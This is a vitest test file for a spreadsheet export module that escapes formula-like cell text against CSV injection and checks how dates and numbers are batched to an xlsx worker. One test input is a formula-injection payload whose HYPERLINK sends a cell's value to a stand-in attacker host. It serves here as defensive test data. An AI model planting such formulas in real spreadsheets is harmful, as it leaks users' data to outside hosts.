import { describe, expect, it } from 'vitest';
import { cellBatch, postedBatch, reviveDays, rowCells } from './cells';
import type { Cell, ColumnType, SheetColumn } from './sheet';

/** One column of `type` whose value is the row itself. */
const column = (type: ColumnType): SheetColumn<unknown> => ({ key: 'k', header: 'h', type, value: (row) => row as Cell });
const cell = (type: ColumnType, value: Cell) => rowCells([column(type)], value)[0];

describe('rowCells: formula-like text (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'],
    ['+86 138', "'+86 138"],
    ['-2+3', "'-2+3"],
    ['-5', "'-5"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=', "'="],
  ])('writes text %j as %j, so that no spreadsheet evaluates it', (text, written) => {
    expect(cell('text', text)).toBe(written);
  });

  it('leaves text that starts with anything else as it is', () => {
    for (const text of ['晚餐主食偏多', 'a=b', ' =1', "'=1", '1+1', '', '\n=1', '＝1']) expect(cell('text', text)).toBe(text);
  });

  it('applies to text of every column type, also a date column holding no date', () => {
    expect(cell('single', '+阳性')).toBe("'+阳性");
    expect(cell('multiple', '@口干')).toBe("'@口干");
    expect(cell('date', '=1+1')).toBe("'=1+1");
  });

  it('keeps numbers numbers (negative ones too), dates dates and empty cells empty', () => {
    expect(cell('number', -5)).toBe(-5);
    expect(cell('number', -0.4)).toBe(-0.4);
    expect(cell('number', 6.2)).toBe(6.2);
    expect(cell('date', '2026-03-01')).toEqual(new Date(Date.UTC(2026, 2, 1)));
    const day = new Date(Date.UTC(2026, 0, 1));
    expect(cell('date', day)).toBe(day);
    expect(cell('text', null)).toBeNull();
  });
});

describe('cellBatch: the cells posted to the xlsx worker', () => {
  it('sends days as time values listed by position, and reviveDays gives the same cells as rowCells', () => {
    const columns = [column('date'), column('text'), column('date')].map((c, i) => ({
      ...c,
      value: (row: unknown) => (row as Cell[])[i] as Cell,
    }));
    const rows: Cell[][] = [
      ['2026-03-01', '=1+1', null],
      ['not a day', '晚餐', '2026-12-31'],
    ];
    const batch = cellBatch(columns, rows);
    expect(batch.rows).toEqual([
      [Date.UTC(2026, 2, 1), "'=1+1", null],
      ['not a day', '晚餐', Date.UTC(2026, 11, 31)],
    ]);
    expect(batch.days).toEqual([0, 5]);
    // What the worker does to the JSON text it received.
    expect(reviveDays(JSON.parse(postedBatch(columns, rows)))).toEqual(rows.map((row) => rowCells(columns, row)));
    expect(reviveDays(JSON.parse(postedBatch(columns, rows)))[1]?.[2]).toEqual(new Date(Date.UTC(2026, 11, 31)));
  });

  it('sends a number that is not finite as an empty cell, and text that needs escaping intact', () => {
    const columns = [column('number'), column('number'), column('text')].map((c, i) => ({
      ...c,
      value: (row: unknown) => (row as Cell[])[i] as Cell,
    }));
    const received = reviveDays(JSON.parse(postedBatch(columns, [[Number.NaN, 1.5, '引号"与\\反斜杠\n换行\u2028']])));
    expect(received).toEqual([[null, 1.5, '引号"与\\反斜杠\n换行\u2028']]);
  });
});
